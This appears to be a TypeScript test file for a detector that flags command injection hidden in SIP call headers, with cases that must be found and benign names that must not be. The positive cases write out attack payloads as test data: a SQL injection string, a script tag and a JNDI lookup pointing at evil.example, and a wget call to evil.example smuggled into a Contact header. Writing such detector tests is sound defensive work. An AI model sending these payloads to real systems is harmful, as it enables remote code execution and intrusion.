import assert from "node:assert/strict";
import { test } from "node:test";
import { assertAbsent, assertFound, assertNotCheckable, CLEAN_CALL } from "../case.fixture.ts";
import { injectionAttempt } from "./injection-attempt.ts";

const named = (header: string): string => `X>P INVITE | ${header}\nP>X 403\nX>P ACK`;

test("commands for databases, browsers and shells are told with the header they stand in", () => {
  const finding = assertFound(injectionAttempt, named("User-Agent: x' OR '1'='1"));
  assert.equal(finding.sentence, "198.51.100.66:5060 hid a command in the User-Agent of its INVITE, for a system behind to carry out.");
  assertFound(injectionAttempt, named('Subject: <script src="//evil.example"></script>'));
  assertFound(injectionAttempt, named("User-Agent: ${jndi:ldap://evil.example/a}"));
  assertFound(injectionAttempt, named("Contact: <sip:a;wget http://evil.example@192.0.2.1>"));
});

test("names with apostrophes, prices and quotes are people's own", () => {
  assertAbsent(injectionAttempt, named(`Subject: O'Brien's offer for $5, "and more"`));
  assertAbsent(injectionAttempt, named("User-Agent: Phone; v1.2; shell"));
  assertAbsent(injectionAttempt, CLEAN_CALL);
});

test("responses alone do not tell", () => {
  assertNotCheckable(injectionAttempt, "~ X>P INVITE\nP>X 403");
});
